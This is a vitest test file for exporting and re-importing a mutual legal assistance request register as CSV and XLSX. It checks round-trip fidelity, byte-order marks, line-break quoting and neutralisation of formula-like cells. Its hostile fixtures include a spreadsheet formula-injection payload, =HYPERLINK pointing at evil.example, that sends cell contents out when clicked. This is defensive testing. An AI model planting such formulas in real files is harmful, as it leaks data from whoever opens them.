import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { ASSISTANCE, ICCS_SECTIONS, REFUSAL_GROUNDS } from '../../contract/codes.ts';
import { INTERCHANGE_COLUMNS, type InterchangeColumn } from '../../contract/interchange.ts';
import { restoreCsvCell } from '../../db/interchange/cells.ts';
import { SAMPLE_CSV, csvFile, importFile, row, type Row } from '../helpers/interchange.ts';
import { ACTOR, CLOCK, newRequest } from '../helpers/requests.ts';
import { tempDir, tempRegister } from '../helpers/temp-register.ts';

/** Values that break naive CSV and spreadsheet handling, each in a column that keeps text. */
const HOSTILE: Row[] = [
  row({
    reference: 'MLA-IN-2024-00101',
    counterpart_authority: 'Bureau "Entraide", Paris',
    summary: 'Line one\r\nline two, with a comma\nand "quotes"\ra lone CR, and _x000D_ as text',
    offence_description: 'الاحتيال الإلكتروني عبر الإنترنت',
    assigned_to: '王小明',
    domestic_reference: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  }),
  row({
    reference: 'MLA-IN-2024-00102',
    opened_on: '2024-02-29',
    closed_on: '2024-02-29',
    // Stored as "'=already quoted": the file's first apostrophe is the neutralisation's.
    counterpart_reference: "''=already quoted",
    domestic_authority: '+33 1 23 45 67 89',
    service_provider: '@provider',
    legal_basis_detail: '-5 days',
    summary: "'an apostrophe that stays",
    related_reference: 'MLA-IN-2024-00101',
  }),
  row({
    reference: 'MLA-OUT-2024-00103',
    direction: 'outgoing',
    status: 'under_review',
    opened_on: '',
    closed_on: '',
    counterpart_country: 'CN',
    summary: '请求提供银行记录',
  }),
  row({
    reference: 'MLA-OUT-2024-00104',
    direction: 'outgoing',
    status: 'withdrawn',
    opened_on: '',
    closed_on: '2024-05-02',
  }),
  row({
    reference: 'MLA-IN-2024-00105',
    status: 'refused',
    closed_on: '2024-04-01',
    refusal_grounds: 'political_offence;dual_criminality',
    offences: '11;01;07',
    assistance: 'other;statements;records',
    cyber_related: 'true',
    urgency: 'urgent',
    legal_basis: 'untoc',
    channel: 'interpol',
  }),
];

const CODE_LISTS: Partial<Record<InterchangeColumn, readonly string[]>> = {
  offences: ICCS_SECTIONS,
  assistance: ASSISTANCE,
  refusal_grounds: REFUSAL_GROUNDS,
};

/** A value as the register gives it back: defaults filled, a list as a set in its code list's order. */
function asExported(column: InterchangeColumn, value: string): string {
  if (column === 'cyber_related') return value || 'false';
  if (column === 'urgency') return value || 'normal';
  const codes = CODE_LISTS[column];
  return codes ? codes.filter((c) => value.split(';').includes(c)).join(';') : value;
}

const readCsv = (file: string) =>
  parse(fs.readFileSync(file), { columns: true, bom: true }) as Record<string, string>[];

async function exportTo(register: ReturnType<typeof tempRegister>, format: 'csv' | 'xlsx'): Promise<string> {
  const file = path.join(tempDir(), `export.${format}`);
  await register.interchange.export(file, format);
  return file;
}

/** The input file with the sample's 400 rows followed by the hostile ones. */
function hostileRegisterFile(): string {
  const sample = readCsv(SAMPLE_CSV);
  return csvFile([...sample, ...HOSTILE.map((r) => ({ ...r }))]);
}

describe('export then import into an empty register gives back the same register', () => {
  it('CSV: same rows, every column equal, and the second export is byte-identical to the first', async () => {
    const original = hostileRegisterFile();
    const first = tempRegister();
    expect(await importFile(first, original)).toMatchObject({ ok: true, problems: [] });
    const exported = await exportTo(first, 'csv');

    const second = tempRegister();
    expect(await importFile(second, exported)).toMatchObject({ ok: true, problems: [] });
    const again = await exportTo(second, 'csv');
    expect(fs.readFileSync(again).equals(fs.readFileSync(exported))).toBe(true);

    // And what came out is what went in, column by column, as the neutralisation rule reads both.
    const restored = (rows: Record<string, string>[]) =>
      rows.map((r) => Object.fromEntries(Object.entries(r).map(([k, v]) => [k, restoreCsvCell(v)])));
    const input = restored(readCsv(original));
    const output = restored(readCsv(exported));
    expect(output).toHaveLength(input.length);
    for (const [i, expected] of input.entries()) {
      for (const column of INTERCHANGE_COLUMNS) {
        const want = asExported(column, expected[column] ?? '');
        expect({ row: i + 2, column, value: output[i]?.[column] }).toEqual({ row: i + 2, column, value: want });
      }
    }
  });

  it('CSV: writes a byte-order mark, CRLF records, quotes line breaks, and neutralises formula-like cells', async () => {
    const register = tempRegister();
    await importFile(register, csvFile(HOSTILE));
    const bytes = fs.readFileSync(await exportTo(register, 'csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.split('\r\n')[0]).toBe(`\uFEFF${INTERCHANGE_COLUMNS.join(',')}`);
    expect(text).toContain('"Line one\r\nline two, with a comma\nand ""quotes""\ra lone CR, and _x000D_ as text"');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
    expect(text).toContain(",''=already quoted,");
    expect(text).toContain(",'+33 1 23 45 67 89,");
    expect(text).toContain(",'@provider,");
    expect(text).toContain(",'-5 days,");
    expect(text).toContain(",'an apostrophe that stays\r\n");
    // No cell starts with a formula character.
    for (const record of parse(bytes, { bom: true }) as string[][]) {
      for (const cell of record) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('exports as related_reference the preservation a request follows up, else the one it supplements, else a related one', async () => {
    const register = tempRegister();
    const make = (kind: 'mla' | 'preservation') => register.requests.register(newRequest({ kind }), ACTOR, CLOCK);
    const request = await make('mla');
    const [related, supplemented, preserved] = [await make('mla'), await make('mla'), await make('preservation')];
    const link = (other: string, kind: 'related' | 'supplementary' | 'follow_up') =>
      register.requests.link({ id: request.id, otherReference: other, kind }, ACTOR, CLOCK);
    await link(related.reference, 'related');
    await link(supplemented.reference, 'supplementary');
    const linked = await link(preserved.reference, 'follow_up');
    const relatedOf = async () =>
      readCsv(await exportTo(register, 'csv')).find((r) => r.reference === request.reference)?.related_reference;
    expect(await relatedOf()).toBe(preserved.reference);
    const followUp = linked.links.find((l) => l.kind === 'follow_up');
    await register.requests.unlink(request.id, followUp?.id ?? 0, ACTOR, CLOCK);
    expect(await relatedOf()).toBe(supplemented.reference);
  });

  it('XLSX: re-imports to the same register, and writes text cells (never formulas), real dates and ICCS codes as text', async () => {
    const original = hostileRegisterFile();
    const first = tempRegister();
    await importFile(first, original);
    const csv = await exportTo(first, 'csv');
    const xlsx = await exportTo(first, 'xlsx');

    const second = tempRegister();
    expect(await importFile(second, xlsx)).toMatchObject({ ok: true, problems: [] });
    expect(fs.readFileSync(await exportTo(second, 'csv')).equals(fs.readFileSync(csv))).toBe(true);

    // Exported twice, the sheets hold the same cells (the zip's timestamps differ).
    const cellsOf = async (file: string) => {
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.readFile(file);
      const sheet = workbook.worksheets[0];
      const rows: unknown[][] = [];
      sheet?.eachRow((r) => rows.push((r.values as unknown[]).slice(1)));
      return { sheet, rows };
    };
    const a = await cellsOf(xlsx);
    const b = await cellsOf(await exportTo(second, 'xlsx'));
    expect(b.rows).toEqual(a.rows);

    const sheet = a.sheet;
    expect(sheet?.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(sheet?.getRow(1).font?.bold).toBe(true);
    const hostileRow = sheet?.getRow(402);
    const cell = (column: string) => hostileRow?.getCell(INTERCHANGE_COLUMNS.indexOf(column as never) + 1);
    expect(cell('reference')?.value).toBe('MLA-IN-2024-00101');
    expect(cell('domestic_reference')?.type).toBe(ExcelJS.ValueType.String);
    expect(cell('domestic_reference')?.value).toBe('=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(cell('opened_on')?.value).toEqual(new Date('2024-01-10T00:00:00Z'));
    expect(cell('opened_on')?.numFmt).toBe('yyyy-mm-dd');
    expect(cell('offences')?.value).toBe('07');
    expect(cell('cyber_related')?.value).toBe(false);
    expect(cell('assigned_to')?.value).toBe('王小明');
    // A carriage return survives XML as OOXML's escape, as Excel writes it (and a literal one is escaped too).
    expect(cell('summary')?.value).toBe(
      'Line one_x000D_\nline two, with a comma\nand "quotes"_x000D_a lone CR, and _x005F_x000D_ as text',
    );
  });
});
